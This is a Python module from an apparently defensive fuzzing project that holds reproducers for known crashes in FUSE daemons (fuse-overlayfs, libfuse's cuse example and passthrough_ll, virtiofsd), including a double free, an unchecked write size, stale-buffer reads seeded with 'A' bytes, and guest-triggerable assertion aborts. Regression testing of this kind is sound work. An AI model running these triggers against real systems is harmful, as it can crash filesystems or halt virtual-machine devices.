"""Real findings in third-party daemons, each as the few steps that show it, in the fuzz
machines' own rules (so a reproducer reads like the campaign's shrunk example and survives
changes to how hypothesis encodes examples).

``python -m fuzz known`` runs them all against the daemons of this machine and says which
still reproduce; the self-tests require each to. Every one was found by a campaign first
(``python -m fuzz run --target TARGET``); the README lists them.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from scapy.packet import Packet, Raw

from fuzz.hostile import VALID, Framing, Twist, frame
from fuzz.stats import Tally
from fuzz.verdict import Defect
from protocol import constants as c
from protocol.layers.structs import (
    FuseAccessIn,
    FuseFsyncIn,
    FuseGetattrIn,
    FuseLinkIn,
    FuseReadIn,
    FuseRename2In,
    FuseRenameIn,
    FuseWriteIn,
)
from protocol.layers.variable import FuseName
from targets.spec import parse_spec

DEADLINE = 3.0


@dataclass(frozen=True)
class Known:
    name: str
    target: str
    kind: str  # the Defect kind it shows
    trust: str  # who can send what it takes: "kernel" (any program), "guest", "malformed only"
    summary: str
    steps: Callable[[Any], None]  # given the campaign's machine on a fresh stage
    campaign: str = "fuse"  # whose machine the steps use


def _overlay_unlink_after_forget(m: Any) -> None:
    m.home_directory()
    m.make("file", 1, 1)  # CREATE b: an open handle and one lookup
    m.release(1)  # the kernel closes the file
    m.forget(1)  # and evicts the inode: FORGET of its one lookup
    m.send(c.FUSE_UNLINK, (FuseName(name=b"b"),), nodeid=m.home)  # rm b
    m.probe("FUSE_UNLINK", VALID, "UNLINK of a forgotten file")


def _cuse_write_size(m: Any) -> None:
    handle = m.first_open()
    write = FuseWriteIn(fh=handle.fh, offset=0, size=1 << 24, flags=2)
    m.near_valid(m.build(c.FUSE_WRITE, write, Raw(load=b"x"),
                         twist=Twist("boundary", "fuse_write_in.size = 16 MiB, 1 byte sent")))


def _cuse_ioctl_write_of_nothing(m: Any) -> None:
    handle = m.first_open()
    m.ioctl(handle, {"cmd": 0x4503, "arg": 0, "fill": b""})  # FIOC_WRITE, unrestricted: RETRY legs


#: Stale bytes where a cut-short request's struct would be: 0x4141414141414141 is no address.
POISON = (c.FUSE_LOOKUP, (FuseName(name=b"A" * 64),))
#: The same eight bytes at offset 40, then zeros (fuse_rename2_in.flags must read 0 to go on).
POISON_THEN_ZEROS = (c.FUSE_GETATTR, (FuseGetattrIn(getattr_flags=0x41414141, dummy=0x41414141, fh=0),))


def _cut_short(opcode: int, *layers: Packet,
               poison: tuple[int, tuple[Packet, ...]] = POISON) -> Callable[[Any], None]:
    """Steps: requests (``poison``) that fill libfuse's receive buffers (one per worker
    thread) with b"A", then ``opcode`` with its body cut to nothing (len agrees): libfuse
    reads the struct from what the buffer held before."""
    def steps(m: Any) -> None:
        for _ in range(8):
            m.send(poison[0], poison[1], nodeid=c.FUSE_ROOT_ID)
        data = m.encode(opcode, *layers, nodeid=c.FUSE_ROOT_ID)
        m.exchange(opcode, *frame(data, Framing("truncated", b"", len(data))))  # and GETATTR after it
    return steps


def _virtiofsd_unique_zero(m: Any) -> None:
    data = m.encode(c.FUSE_ACCESS, FuseAccessIn(mask=0), nodeid=c.FUSE_ROOT_ID)
    broken, twist = frame(data, Framing("unique=0"))
    m.exchange(c.FUSE_ACCESS, broken, twist)
    m.probe("FUSE_ACCESS", twist, "ACCESS with unique 0")


def _virtiofsd_short_header(m: Any) -> None:
    from fuzz.virtio_chains import Hostile

    m.hostile_chain(Hostile("header-cut", 20), 0)


_CUT = ("libfuse 3.14's {op} reads {struct} from a request whose body is cut short (no size check), "
        "so {field} is whatever the receive buffer held; passthrough_ll takes it for {what} (SIGSEGV)")

KNOWN = (
    Known("overlayfs-unlink-after-forget", "fuse-overlayfs", "crash", "kernel",
          "fuse-overlayfs 1.10: UNLINK of a file whose inode the kernel has forgotten frees it twice "
          "(glibc: double free detected in tcache 2, SIGABRT): create, close, evict, rm",
          _overlay_unlink_after_forget),
    Known("cuse-example-write-size", "cuse-example", "crash", "malformed only",
          "libfuse 3.14 do_write passes fuse_write_in.size on unchecked; the cuse example copies 16 MiB "
          "out of a 1-byte WRITE (SIGSEGV)", _cuse_write_size),
    Known("cuse-example-ioctl-reply", "cuse-example", "malformed-reply", "kernel",
          "libfuse 3.14's cuse example answers FIOC_WRITE of size 0 (out_size 0) with 16 bytes of output "
          "it never asked room for: the kernel answers EIO", _cuse_ioctl_write_of_nothing),
    Known("virtiofsd-unique-zero", "virtiofsd", "crash", "guest",
          "virtiofsd 7.2 aborts (virtio_send_msg: Assertion `out->unique' failed) answering a request "
          "whose fuse_in_header.unique is 0: any guest can stop the device", _virtiofsd_unique_zero),
    Known("virtiofsd-short-request", "virtiofsd", "crash", "guest",
          "virtiofsd 7.2 aborts (fv_queue_worker: assertion) on a request chain whose readable part is "
          "shorter than fuse_in_header: any guest can stop the device", _virtiofsd_short_header, "virtio"),
    Known("passthrough-link-cut-short", "passthrough_ll", "crash", "malformed only",
          _CUT.format(op="do_link", struct="fuse_link_in", field="oldnodeid", what="an inode pointer"),
          _cut_short(c.FUSE_LINK, FuseLinkIn(oldnodeid=c.FUSE_ROOT_ID), FuseName(name=b"l"))),
    Known("passthrough-rename-cut-short", "passthrough_ll", "crash", "malformed only",
          _CUT.format(op="do_rename", struct="fuse_rename_in", field="newdir", what="an inode pointer"),
          _cut_short(c.FUSE_RENAME, FuseRenameIn(newdir=c.FUSE_ROOT_ID), FuseName(name=b"a"),
                     FuseName(name=b"b"))),
    Known("passthrough-readdir-cut-short", "passthrough_ll", "crash", "malformed only",
          _CUT.format(op="do_readdir", struct="fuse_read_in", field="fh", what="a directory stream pointer"),
          _cut_short(c.FUSE_READDIR, FuseReadIn(fh=0, size=4096))),
    Known("passthrough-rename2-cut-short", "passthrough_ll", "crash", "malformed only",
          _CUT.format(op="do_rename2", struct="fuse_rename2_in", field="newdir", what="an inode pointer"),
          _cut_short(c.FUSE_RENAME2, FuseRename2In(newdir=c.FUSE_ROOT_ID), FuseName(name=b"a"),
                     FuseName(name=b"b"), poison=POISON_THEN_ZEROS)),
    Known("passthrough-readdirplus-cut-short", "passthrough_ll", "crash", "malformed only",
          _CUT.format(op="do_readdirplus", struct="fuse_read_in", field="fh",
                      what="a directory stream pointer"),
          _cut_short(c.FUSE_READDIRPLUS, FuseReadIn(fh=0, size=4096))),
    Known("passthrough-fsyncdir-cut-short", "passthrough_ll", "crash", "malformed only",
          _CUT.format(op="do_fsyncdir", struct="fuse_fsync_in", field="fh",
                      what="a directory stream pointer"),
          _cut_short(c.FUSE_FSYNCDIR, FuseFsyncIn(fh=0))),
)


def reproduce(known: Known) -> Defect | None:
    """Run ``known``'s steps on a fresh instance of its target; the Defect it shows, or None."""
    import fuzz.test_campaign  # noqa: F401  (every campaign registered)
    from fuzz.stage import CAMPAIGNS
    from targets.spec import is_cuse

    spec = parse_spec(known.target)
    name = "cuse" if is_cuse(spec) else "virtio" if known.campaign == "virtio" else "fuse"
    campaign = CAMPAIGNS[name]
    stage = campaign.open(spec, DEADLINE, Tally())
    try:
        known.steps(campaign.machine(stage))
    except Defect as defect:
        return defect
    finally:
        stage.close()
    return None


def main(only: str | None = None) -> int:
    still = 0
    for known in KNOWN:
        if only and known.name != only:
            continue
        defect = reproduce(known)
        shown = "REPRODUCED" if defect is not None and defect.kind == known.kind else "not reproduced"
        still += shown == "REPRODUCED"
        print(f"{shown:<15} {known.name} ({known.target}, {known.trust}): {known.summary}")
        if defect is not None:
            print(f"                {defect}"[:400])
    return 0 if still else 1
